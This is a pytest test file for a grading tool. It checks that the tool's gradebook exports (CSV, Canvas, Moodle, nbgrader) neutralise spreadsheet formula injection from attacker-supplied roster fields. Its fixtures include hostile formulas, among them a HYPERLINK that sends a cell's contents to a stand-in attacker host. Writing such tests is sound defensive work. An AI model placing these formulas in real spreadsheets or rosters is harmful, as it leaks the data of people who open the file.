"""Exports are inert in a spreadsheet (issue #23 item 5): grader_utils/instructor/spreadsheet.py, and every export
of a real nbgrader gradebook whose roster an attacker filled, opened as a spreadsheet opens it.

The spreadsheet is LibreOffice Calc itself (headless ``soffice --convert-to xlsx``, with its default CSV import
and with a semicolon separator, as a spreadsheet in a semicolon locale opens a .csv); openpyxl then reads what
Calc saved: a cell Calc took for a formula is stored as one (``data_type == "f"``). Calc evaluates cells that
begin with ``=``; Excel also ``+``, ``-``, ``@``: those are checked on the bytes (every such cell starts with
``'``), since no Excel runs here.
"""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conftest import copy_small_gradebook
from grader_utils.instructor.spreadsheet import FORMULA_STARTS, csv_line, inert

VENV_BIN = Path(sys.executable).parent

# --- the rule ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t'=1+1"),  # a tab both starts a formula and separates
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width equals sign
        ("-1.5", "-1.5"),  # a real number stays a number
        ("-3", "-3"),
        ("7", "7"),
        ("-1e3", "'-1e3"),  # not the plain form: text, made inert
        ("-", "'-"),
        ('"=1+1', "'\"=1+1"),
        ("x;=1+1", "x;'=1+1"),  # a semicolon locale splits here
        ('x; "@cmd', "x;' \"@cmd"),
        ("Smith, Jr.", "Smith, Jr."),
        ("a|+1,-2\t=3", "a|'+1,'-2\t'=3"),
        ("Lee", "Lee"),
        ("bob@example.org", "bob@example.org"),
        ("", ""),
        (None, ""),
    ],
)
def test_inert_prefixes_what_a_spreadsheet_evaluates(value: object, cell: str) -> None:
    assert inert(value) == cell


def test_csv_line_quotes_separators_and_reads_back() -> None:
    row = ["x;=1+1", 'say "hi"', "a,b", "a|b", "", "2", "=cmd()", " padded "]
    line = csv_line(row)
    assert line.endswith("\r\n")
    assert '"x;\'=1+1"' in line and '"a|b"' in line and ",," in line  # ; and | quoted, empty cell not
    assert next(csv.reader([line])) == [inert(v) for v in row]
    assert next(csv.reader([line])) != row  # the rule changed something: the check is not vacuous


# --- every export of a real gradebook, opened in LibreOffice Calc ----------------------------------------------

#: roster values an attacker chose (a name, an e-mail, an LMS id are theirs to type in many schools' systems)
HOSTILE_ROSTER = [
    {
        "id": "mallory",
        "first_name": '=HYPERLINK("http://attacker.example/?"&A2,"see grades")',
        "last_name": "=1+1",
        "email": "=2+2",
        "lms_user_id": "=3+3",
    },
    {"id": "trudy", "first_name": "+4+4", "last_name": "x;=5+5", "email": "@SUM(6+6)", "lms_user_id": "-7+7"},
    {"id": "oscar", "first_name": "\t=8+8", "last_name": " =9+9", "email": "oscar@example.org", "lms_user_id": "77"},
]
#: every export: (how it is made, file name)
EXPORTS = ["csv", "grades", "canvas", "moodle", "nbgrader"]


def _cnn(db_url: str, cwd: Path, *args: str) -> None:
    """``cnn-course ARGS`` (its ``main``, in this process: nbgrader's import costs seconds per subprocess)."""
    from grader_utils.instructor.cli import main

    assert main([*args, f"--db-url={db_url}", f"--root={cwd}"]) == 0


def _soffice(files: list[Path], out: Path, profile: Path, infilter: str | None = None) -> list[Path]:
    """``files`` converted to .xlsx by LibreOffice Calc (its own profile: no other soffice interferes)."""
    cmd = ["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore"]
    if infilter:
        cmd.append(f"--infilter={infilter}")
    cmd += ["--convert-to", "xlsx", "--outdir", str(out), *map(str, files)]
    proc = subprocess.run(cmd, capture_output=True, text=True, timeout=300)
    done = [out / f"{f.stem}.xlsx" for f in files]
    assert proc.returncode == 0 and all(d.exists() for d in done), proc.stdout + proc.stderr
    return done


def _cells(xlsx: Path) -> list[list[tuple[object, str]]]:
    """Every cell Calc saved: (value, openpyxl data type: 'f' formula, 'n' number, 's' text, ...)."""
    from openpyxl import load_workbook

    wb = load_workbook(xlsx)  # formulas as formulas (not data_only)
    return [[(c.value, c.data_type) for c in row] for ws in wb.worksheets for row in ws.iter_rows()]


@pytest.fixture(scope="module")
def exports(small_gradebook_file: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """The small gradebook (two assignments, submissions, a late penalty) with the hostile students added through
    ``cnn-course roster``, exported in every format by ``cnn-course export``."""
    folder = tmp_path_factory.mktemp("hostile")
    db_url = copy_small_gradebook(small_gradebook_file, folder)
    roster = folder / "roster.csv"
    with open(roster, "w", newline="", encoding="utf-8") as f:
        w = csv.DictWriter(f, fieldnames=list(HOSTILE_ROSTER[0]))
        w.writeheader()
        w.writerows(HOSTILE_ROSTER)
    _cnn(db_url, folder, "roster", str(roster))
    out = {}
    for fmt in EXPORTS[:-1]:
        out[fmt] = folder / f"{fmt}.csv"
        _cnn(db_url, folder, "export", f"--format={fmt}", f"--to={out[fmt]}")
    return out


@pytest.fixture(scope="module")
def nbgrader_export(exports: dict[str, Path]) -> Path:
    """``nbgrader export`` (no ``--exporter``) of the same gradebook, in a course whose config is the documented
    ``grader_utils.nbgrader_setup(c)``."""
    folder = exports["csv"].parent
    db_url = f"sqlite:///{folder / 'gradebook.db'}"
    (folder / "nbgrader_config.py").write_text(
        f"c = get_config()\nc.CourseDirectory.db_url = {db_url!r}\n"
        "import grader_utils\ngrader_utils.nbgrader_setup(c)\n"
    )
    env = dict(os.environ, PATH=f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '')}")
    dest = folder / "nbgrader.csv"
    proc = subprocess.run(
        [str(VENV_BIN / "nbgrader"), "export", f"--to={dest}", "--log-level=ERROR"],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
    )
    assert proc.returncode == 0, proc.stdout + proc.stderr
    return dest


#: the roster columns each export carries
CARRIED = {
    "csv": ("first_name", "last_name", "email", "lms_user_id"),
    "grades": ("first_name", "last_name", "email"),
    "nbgrader": ("first_name", "last_name", "email"),
    "moodle": ("first_name", "last_name", "email", "lms_user_id"),
    "canvas": ("lms_user_id",),  # and the name as "Last, First"
}


def test_every_export_holds_the_roster_values_as_inert_text(exports: dict[str, Path]) -> None:
    """On the bytes: each hostile value is there, whole, behind a ``'``; no cell begins with a formula start."""
    _check_bytes(exports)


@pytest.mark.nbgrader
def test_nbgrader_export_writes_the_inert_grades_csv(nbgrader_export: Path, exports: dict[str, Path]) -> None:
    """nbgrader's own command, configured by ``nbgrader_setup``, writes nbgrader's columns, inert (nbgrader's
    plugin would write ``=HYPERLINK(...)`` as it is, unquoted)."""
    _check_bytes({"nbgrader": nbgrader_export})
    assert nbgrader_export.read_bytes() == exports["grades"].read_bytes()


def _check_bytes(exports: dict[str, Path]) -> None:
    for fmt, path in exports.items():
        with open(path, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        cells = [c for r in rows for c in r]
        width = {len(r) for r in rows}
        assert len(width) == 1, f"{fmt}: ragged rows {width} (a value split a row)"
        starts = [c for c in cells if c.lstrip(" \u00a0").startswith(FORMULA_STARTS) and not _is_number(c)]
        assert not starts, f"{fmt}: cells a spreadsheet evaluates: {starts}"
        for student in HOSTILE_ROSTER:
            wanted = [inert(student[key]) for key in CARRIED[fmt]]
            if fmt == "canvas":
                wanted.append(inert(f"{student['last_name']}, {student['first_name']}"))
            missing = [w for w in wanted if w not in cells]
            assert not missing, f"{fmt}: {student['id']}'s values not found as inert cells: {missing}"


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return text == inert(text)


@pytest.mark.spreadsheet
@pytest.mark.parametrize("separator", ["comma", "semicolon"])
def test_libreoffice_calc_finds_no_formula_in_any_export(
    exports: dict[str, Path], nbgrader_export: Path, tmp_path: Path, separator: str
) -> None:
    """Calc opens each export (its default CSV import; or ';' as the separator, as a semicolon locale does):
    no cell is a formula, the hostile names are text, and the scores are numbers."""
    files = [exports[fmt] for fmt in EXPORTS[:-1]] + [nbgrader_export]
    infilter = "CSV:59,34,76,1" if separator == "semicolon" else None
    books = _soffice(files, tmp_path / "xlsx", tmp_path / "profile", infilter)
    for fmt, book in zip(EXPORTS, books, strict=True):
        cells = [c for row in _cells(book) for c in row]
        formulas = [v for v, t in cells if t == "f"]
        assert not formulas, f"{fmt} ({separator}): Calc evaluates {formulas}"
        if separator == "comma":
            text = {v for v, t in cells if t == "s"}
            assert "'=1+1" in text or any("=1+1" in str(v) for v in text), fmt
    canvas = _cells(books[EXPORTS.index("canvas")])
    if separator == "comma":  # the score columns stay numbers (Canvas' own importer reads the same text)
        points_possible = canvas[1]
        assert points_possible[0] == ("Points Possible", "s")
        assert all(t == "n" for _, t in points_possible[5:]), points_possible
        assert all(t == "n" for row in canvas[2:] for _, t in row[5:]), canvas[2:]
